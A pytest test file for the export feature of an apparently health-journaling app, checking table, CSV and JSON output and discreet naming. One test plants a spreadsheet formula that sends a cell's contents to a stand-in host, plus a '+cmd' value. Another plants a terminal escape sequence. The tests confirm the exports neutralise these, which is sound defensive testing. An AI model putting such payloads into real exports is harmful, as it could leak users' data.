"""Exports: the same facts as an aligned table, CSV and JSON, every answer included."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from coach.outputs.export import render
from tests.snapshots.apps.journal_data import pack, record

PACK = pack()
SESSIONS = [
    record(dt.date(2026, 1, 7), level="size-2", comfort=None, notes='second, "quoted"\nline 2'),
    record(dt.date(2026, 1, 5), comfort=7, active_seconds=754.0, resistances=2),
    record(
        dt.date(2026, 1, 9),
        level="size-2",
        pain_stop=True,
        finished=True,
        completed=False,
        finish_reason="pain",
        checked_in=False,
        comfort=None,
        pain=None,
        bleeding=None,
    ),
    record(dt.date(2026, 1, 10), finished=False, completed=False, bleeding="more", pain=True),
]


def test_json_is_a_list_of_objects_oldest_first() -> None:
    data = json.loads(render("json", SESSIONS, PACK))
    assert [row["date"] for row in data] == ["2026-01-05", "2026-01-07", "2026-01-09", "2026-01-10"]
    first = data[0]
    assert first["kind"] == "session" and first["started"] == "2026-01-05T09:00:00+01:00"
    assert first["protocol"] == "Dilation session" and first["level"] == "Size 1 (smallest)"
    assert first["active_minutes"] == 12.6
    assert first["answers"] == {"comfort": 7, "pain": False, "bleeding": "none"}
    assert (first["attempts"], first["resistances"], first["counts"]) == (3, 2, True)
    assert (first["pain"], first["finished"]) == (False, True)
    assert data[1]["notes"] == 'second, "quoted"\nline 2' and "comfort" not in data[1]["answers"]
    assert data[2]["pain_stop"] is True and data[2]["pain"] is True and data[2]["status"] == "pain"
    assert data[2]["counts"] is False
    assert data[3]["finished"] is False and data[3]["status"] == "unfinished"
    assert data[3]["answers"]["bleeding"] == "more"


def test_csv_round_trips_with_a_column_per_question() -> None:
    rows = list(csv.DictReader(io.StringIO(render("csv", SESSIONS, PACK))))
    assert list(rows[0]) == [
        "date",
        "time",
        "protocol",
        "size",
        "active minutes",
        "steps done",
        "attempts",
        "resistances",
        "pain",
        "comfort",
        "bleeding",
        "finished",
        "status",
        "counts",
        "notes",
    ]
    assert rows[0]["size"] == "Size 1 (smallest)" and rows[0]["active minutes"] == "12.6"
    assert rows[0]["resistances"] == "2" and rows[0]["counts"] == "yes"
    assert rows[1]["notes"] == 'second, "quoted"\nline 2' and rows[1]["comfort"] == ""
    assert rows[2]["pain"] == "yes" and rows[2]["bleeding"] == "" and rows[2]["finished"] == "yes"
    assert rows[3]["finished"] == "no" and rows[3]["bleeding"] == "More than spotting"


def test_csv_cells_cannot_become_spreadsheet_formulas() -> None:
    evil = record(dt.date(2026, 1, 5), notes='=HYPERLINK("http://x?"&A1)')._replace(
        protocol_title="+cmd"
    )
    row = next(csv.DictReader(io.StringIO(render("csv", [evil], PACK))))
    assert row["notes"].startswith("'=") and row["protocol"] == "'+cmd"
    assert json.loads(render("json", [evil], PACK))[0]["notes"].startswith("=")  # JSON stays exact


def test_table_is_aligned_and_safe_for_a_terminal() -> None:
    noisy = record(dt.date(2026, 1, 11), notes="\x1b[2J cleared? " + "long " * 20)
    lines = render("table", [*SESSIONS, noisy], PACK).splitlines()
    assert lines[0].split() == [
        "Date",
        "Protocol",
        "Size",
        "Min",
        "Tries",
        "Resist",
        "Pain",
        "Comfort",
        "Bleeding",
        "Finished",
        "Counts",
        "Notes",
    ]
    assert set(lines[1]) == {"-", " "}
    assert len(lines) == 2 + 5
    assert lines[2].startswith("2026-01-05 09:00  Dilation session  Size 1 (smallest)")
    assert "\x1b" not in "".join(lines) and "\\x1b[2J cleared?" in lines[-1]
    assert lines[-1].endswith("…")
    # Columns line up: "Min" is right-aligned under its header.
    col = lines[0].index("Min") + len("Min")
    assert lines[2][col - 4 : col] == "12.6"
    assert "stop" in lines[4] and "pain" in lines[4]
    assert "unfinished" in lines[5] and "More than spotting" in lines[5]


def test_every_pack_named_with_all_packs() -> None:
    theirs = record(dt.date(2026, 1, 6), level="other-size")._replace(pack_id="pelvic")
    data = json.loads(render("json", [*SESSIONS, theirs], PACK, all_packs=True))
    assert [row["pack"] for row in data][:2] == ["test-pack", "pelvic"]
    assert data[1]["level"] == "other-size" and data[1]["counts"] is None  # not judged here
    table = render("table", [*SESSIONS, theirs], PACK, all_packs=True).splitlines()
    assert table[0].split()[0] == "Pack" and table[3].startswith("pelvic")


def test_without_a_programme_levels_show_their_ids() -> None:
    data = json.loads(render("json", SESSIONS[:1], None))
    assert data[0]["level"] == "size-2"
    assert render("table", SESSIONS[:1], None).splitlines()[0].split()[2] == "Level"


def test_render_dispatches_and_rejects_unknown_formats() -> None:
    assert render("json", [], PACK) == "[]\n"
    assert render("csv", [], PACK).startswith("date,time,protocol,size")
    with pytest.raises(ValueError):
        render("xml", [], PACK)


@pytest.mark.parametrize("count", [0, 1, 4])
def test_streamed_json_is_exactly_one_dump_of_the_whole_list(count: int) -> None:
    streamed = render("json", SESSIONS[:count], PACK)
    found = json.loads(streamed)
    assert len(found) == count
    assert streamed == json.dumps(found, indent=2, ensure_ascii=False) + "\n"


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_each_format_comes_a_piece_at_a_time(fmt: str) -> None:
    from coach.outputs.export import iter_render

    pieces = list(iter_render(fmt, SESSIONS, PACK))
    # a header (or the opening bracket) and then every session on its own: written as made
    assert len(pieces) >= len(SESSIONS) + 1
    assert "".join(pieces) == render(fmt, SESSIONS, PACK)


def test_discreet_names_the_routines_and_activities_neutrally_in_the_table() -> None:
    from coach.journal.records import ActivityRecord
    from coach.outputs.export import iter_render
    from coach.pack.discreet import pack_routine_names

    names = pack_routine_names(PACK)
    walk = ActivityRecord(
        1, PACK.info.id, "walk", "A brisk walk", True, dt.date(2026, 1, 8), dt.datetime(2026, 1, 8)
    )
    table = "".join(iter_render("table", SESSIONS, PACK, activities=[walk], names=names))
    assert "Dilation session" not in table and "A brisk walk" not in table
    assert table.count("Routine A") == len(SESSIONS) and "an activity" in table
    # the data exports keep what the person did: discreet is about the screen
    assert "Dilation session" in render("csv", SESSIONS, PACK)
